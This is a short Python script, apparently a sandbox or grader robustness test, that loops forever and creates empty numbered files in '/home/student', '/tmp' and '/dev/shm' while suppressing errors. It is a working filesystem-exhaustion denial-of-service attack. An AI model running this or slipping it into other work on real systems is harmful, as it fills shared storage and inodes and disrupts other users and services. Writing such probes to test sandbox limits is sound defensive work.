# Empty files without end, in every writable folder.
print('tried 1', flush=True)
number = 0
while True:
    for folder in ('/home/student', '/tmp', '/dev/shm'):
        try:
            open(f'{folder}/{number}', 'w').close()
        except OSError:
            pass
    number += 1
